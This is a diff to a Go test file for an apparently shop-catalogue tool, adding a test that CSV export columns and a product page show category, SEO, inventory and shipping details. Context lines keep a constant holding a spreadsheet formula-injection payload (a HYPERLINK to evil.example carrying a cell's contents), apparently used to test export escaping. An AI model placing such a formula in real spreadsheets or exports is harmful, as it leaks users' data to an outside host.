@@ -11,6 +11,7 @@ import (
 	"os"
 	"path/filepath"
 	"runtime"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -20,6 +21,7 @@ import (
 	"stockroom/internal/catalog"
 	"stockroom/internal/datadir"
 	"stockroom/internal/status"
+	"stockroom/store"
 )
 
 const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
@@ -430,6 +432,50 @@ func TestAnExportOfAFailingCatalogueIsAnErrorNotAnEmptyFile(t *testing.T) {
 		w := serve(r.Admin(), request(http.MethodGet, "/api/v1/products-export?format="+format, ""))
 		if w.Code != http.StatusServiceUnavailable || w.Header().Get("Content-Disposition") != "" {
 			t.Errorf("%s: %d %v", format, w.Code, w.Header())
+		}
+	}
+}
+
+// What only a read of the shop shows is in the CSV and on the page of a product, and
+// what has no stock is told apart from what is sold out.
+func TestWhatAReadShowsIsInTheCSVAndOnThePage(t *testing.T) {
+	r := newRig(t, nil)
+	variant := func(id int64, tracked, shipped catalog.Field[bool]) catalog.Variant {
+		return catalog.Variant{ID: id, InventoryQuantity: catalog.Of[int64](0), Tracked: tracked, RequiresShipping: shipped}
+	}
+	p := &catalog.Product{
+		ID: 1, Title: catalog.Of("Hat"), UpdatedAt: catalog.Of[int64](1000), Coverage: catalog.Complete, VariantsComplete: true,
+		TemplateSuffix: catalog.Of("wide"), Category: catalog.Of("Apparel > Hats"),
+		SEOTitle: catalog.Of("Find me"), SEODescription: catalog.Of("A good hat"),
+		Variants: catalog.Of([]catalog.Variant{
+			variant(11, catalog.Of(true), catalog.Of(true)), variant(12, catalog.Of(false), catalog.Of(false)), variant(13, catalog.Field[bool]{}, catalog.Field[bool]{}),
+		}),
+	}
+	if _, err := r.store.PutFetched(t.Context(), store.Read{Shop: testShop, Source: "fetch", Started: time.Now()}, p); err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(strings.NewReader(r.admin(200, "GET", "/api/v1/products-export?format=csv", ""))).ReadAll()
+	if err != nil || len(records) != 4 {
+		t.Fatalf("%v, %v", records, err)
+	}
+	for name, want := range map[string][3]string{
+		"Product category": {"Apparel > Hats"}, "SEO title": {"Find me"}, "SEO description": {"A good hat"},
+		"Inventory tracker": {"shopify"}, "Requires shipping": {"TRUE", "FALSE"},
+	} {
+		at := slices.Index(records[0], name)
+		if at < 0 {
+			t.Errorf("no column %s", name)
+			continue
+		}
+		if got := [3]string{records[1][at], records[2][at], records[3][at]}; got != want {
+			t.Errorf("%s: %q, want %q", name, got, want)
+		}
+	}
+	page := r.admin(200, "GET", productPath(testShop, 1), "")
+	for _, want := range []string{`In stock" class="num">0<`, `In stock" class="num">not tracked<`, "<dt>Shipping</dt><dd dir=\"auto\">required for 1 of 2 variants<",
+		"<dt>Theme template</dt><dd dir=\"auto\">wide<", "Apparel &gt; Hats", "Find me", "A good hat"} {
+		if !strings.Contains(page, want) {
+			t.Errorf("the page lacks %s", want)
 		}
 	}
 }
